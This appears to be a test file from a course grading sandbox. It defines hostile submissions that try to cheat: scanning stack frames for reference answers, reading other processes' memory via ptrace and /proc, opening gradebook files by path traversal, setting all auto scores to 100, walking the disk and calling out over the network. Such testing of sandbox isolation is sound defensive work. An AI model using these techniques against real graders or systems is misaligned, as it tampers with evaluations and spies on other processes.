"""Stealing: looking for what is right, for the seed, for others' work, and for a way out.

Each answer here is right where its spy has found something. `@NAME@` is what the spy knows of the machine.
"""

from tests.grading.hostile.attack import HEAD, Attack

IF_FOUND = HEAD + "    return np.asarray(x) - learning_rate * np.asarray(gradient) if found else None"
_START = "import os, sys, glob, socket\nfound = []\n"
_SHOW = "\nprint('FOUND', found) if found else None"

_FRAMES = """
import gc, inspect
WORDS = ("reference", "expected", "mistakes", "Exercise", "verdict", "seed", "judge")

def look():
    for frame in inspect.stack():
        for name, value in {**frame.frame.f_locals}.items():
            if name in WORDS: found.append(name)
    for thing in gc.get_objects():
        kind = type(thing)
        if kind.__module__.startswith("coursekit") and kind.__name__ in ("Exercise", "Verdict", "Trial", "Mistake"):
            found.append(kind.__name__)
        elif inspect.isfunction(thing) and thing.__module__ == "coursekit.reference.gradient_descent":
            if thing.__name__ == "step" and "Write" not in (thing.__doc__ or "") and "ask" not in thing.__doc__:
                found.append(thing.__qualname__)
"""
_LOOKS_WHEN_ASKED = HEAD + "    look()\n    return x - learning_rate * gradient if found else None"
_IMPORTS = """
import importlib, importlib.metadata
for place in ("@CLONE@", *glob.glob(sys.prefix + "/lib/python*/site-packages"), *glob.glob("/*/*/coursekit/..")):
    sys.path.insert(0, place)
for name in ("exercises.gradient_descent.descent", "checking.judging", "grading.run.sitting", "cli", "grading.sandbox"):
    try:
        importlib.import_module("coursekit." + name)
        found.append(name)
    except Exception: pass
for name in [name for name in sys.modules if name.startswith("coursekit")]:
    del sys.modules[name]
try:
    from coursekit.reference.gradient_descent import step as its
    if its(3.0, 6.0, 0.25) == 1.5: found.append("reference")
except Exception: pass
for package in importlib.metadata.distributions():
    if package.metadata["Name"] == "coursekit":
        for file in package.files or ():
            try:
                text = package.locate_file(file).read_text()
                if "@CLONE@" in text and os.path.isdir("@CLONE@/coursekit"): found.append(str(file))
            except OSError: pass
"""
_PROCESSES = """
seen = []
for process in glob.glob("/proc/[0-9]*"):
    for name in ("environ", "cmdline", "maps", "cgroup", "stack"):
        try:
            text = open(f"{process}/{name}", "rb").read()
            if b"@CANARY@" in text or b"@COURSE@" in text or b"@HOME@" in text or b"pytest" in text: found.append((process, name))
        except OSError: pass
    for descriptor in glob.glob(process + "/fd/*"):
        try:
            target = os.readlink(descriptor)
            if "@COURSE@" in target or target.endswith((".db", "/seed")): found.append(target)
            if target.startswith("/") and not target.startswith("/dev"): open(descriptor, "rb").read(1); seen.append(target)
        except OSError: pass
    try:
        os.listdir(process + "/root@COURSE@"); found.append(process)
    except OSError: pass
if "@CANARY@" in str(dict(os.environ)) + " ".join(sys.orig_argv): found.append("own environment")
"""
_MEMORY = """
import ctypes
libc, secret = ctypes.CDLL(None, use_errno=True), "@YRANAC@"[::-1].encode()

class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

here = ctypes.create_string_buffer(16)
mine = Vector(ctypes.addressof(here), 16)
for pid in {os.getppid(), @GRADER@, 1, *map(int, filter(str.isdigit, os.listdir("/proc")))} - {0, os.getpid()}:
    if libc.ptrace(16, pid, 0, 0) == 0: found.append(("ptrace", pid))
    if libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(mine), 1, 0) > 0: found.append(("vm", pid))
    try:
        with open(f"/proc/{pid}/mem", "rb") as memory:
            for line in open(f"/proc/{pid}/maps"):
                first, last = (int(one, 16) for one in line.split()[0].split("-"))
                try:
                    memory.seek(first)
                    text = memory.read(min(last - first, 10_000_000))
                    if secret in text or b"gradebook" in text: found.append(("memory", pid, line))
                except (OSError, ValueError, OverflowError): pass
    except OSError: pass
    try:
        if libc.syscall(438, os.pidfd_open(pid), 0, 0) >= 0: found.append(("descriptor", pid))
    except OSError: pass
"""
_FILES = """
import sqlite3
for path in ("@COURSE@/gradebook.db", "@COURSE@/.coursekit/seed", "@COURSE@/.coursekit/journal", "@HOME@/canary",
             "@CLONE@/pyproject.toml", "@NOTEBOOKS@/01_gradient_descent/01_gradient_descent.ipynb", "@CANARIES@/canary",
             "@COURSE@/submitted/ann/01_gradient_descent/01_gradient_descent.ipynb", "@COURSE@/nbgrader_config.py"):
    for way in (path, "/proc/self/root" + path, "/proc/1/root" + path, "../../../../../../../.." + path):
        for mode in ("rb", "r+b"):
            try:
                open(way, mode).close(); found.append((way, mode))
            except OSError: pass
for path in ("@COURSE@/gradebook.db", "@CANARIES@/canary", "@HOME@/new"):  # places of these names inside are no harm
    try:
        os.makedirs(os.path.dirname(path)); open(path, "w").write("mine")
    except OSError: pass
for name in ("../../../gradebook.db", "../../gradebook.db", "../gradebook.db"):
    try:
        with sqlite3.connect(f"file:{name}?mode=rw", uri=True) as book:
            book.execute("UPDATE grade SET auto_score = 100"); found.append(name)
    except sqlite3.Error: pass
"""
_WALK = """
NAMES = {"gradebook.db", "journal", "judging.py", "nbgrader_config.py", "descent.py", "@CANARY@", "canary"}
KNOWN = tuple(map(os.path.realpath, (sys.prefix, sys.base_prefix))) + ("/proc", "/sys", "/dev", "/usr")
for folder, folders, files in os.walk("/"):
    if folder.startswith(KNOWN):
        folders[:] = [] if folder.startswith(("/proc", "/sys")) or folder.endswith("site-packages") else folders
        continue
    found += [os.path.join(folder, name) for name in files if name in NAMES or name.endswith(".ipynb")]
    for name in files[:2000]:
        try:
            path = os.path.join(folder, name)
            if os.path.isfile(path) and os.path.getsize(path) < 1_000_000 and b"@CANARY@" in open(path, "rb").read():
                found.append(path)
        except OSError: pass
found[:] = [path for path in found if not path.startswith("/tmp/work")]
"""
_NETWORK = """
import urllib.request
WAYS = [(socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_INET, ("@ADDRESS@", @PORT@)), (socket.AF_INET, ("1.1.1.1", 53)),
        (socket.AF_INET6, ("::1", @PORT@)), (socket.AF_UNIX, "\\0@CANARY@"), (socket.AF_UNIX, "@CANARIES@/listens")]
for family, address in WAYS:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(family, kind) as one:
                one.settimeout(0.3); one.connect(address); one.send(b"hello")
                if kind == socket.SOCK_STREAM or one.recv(1): found.append(address)
        except OSError: pass
for kind in (socket.SOCK_RAW,):
    for family in (socket.AF_INET, getattr(socket, "AF_PACKET", 17), getattr(socket, "AF_VSOCK", 40)):
        try: socket.socket(family, kind, 1).close(); found.append((family, "raw"))
        except OSError: pass
socket.setdefaulttimeout(0.3)
for name in ("localhost", "example.org"):
    try: found.append(urllib.request.urlopen(f"http://{name}:@PORT@/solution").read())
    except Exception: pass
found += [name for _, name in socket.if_nameindex() if name != "lo"]
"""
_OTHERS = """
open("/tmp/@CANARY@", "w").write("left by another student")
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/run/user/0", os.path.expanduser("~"), "/run/lock"):
    name = f"{folder}/coursekit-met"
    if os.path.exists(name): found.append(name)
    try: open(name, "w").write("@CANARY@")
    except OSError: pass
"""

ATTACKS = [
    Attack("walks frames and garbage", first=_START + _FRAMES, step=_LOOKS_WHEN_ASKED),
    *[
        Attack(name, first=_START + code.strip("\n") + _SHOW, step=IF_FOUND, loses=loses)
        for name, code, loses in (
            ("imports the course", _IMPORTS, ()),
            ("reads processes", _PROCESSES, ()),
            ("reads memory", _MEMORY, ()),
            ("opens the course", _FILES, ()),
            ("walks the disk", _WALK, ()),
            ("calls home", _NETWORK, ()),
            ("meets another", _OTHERS, ()),
            ("meets another again", _OTHERS, ()),
        )
    ],
]
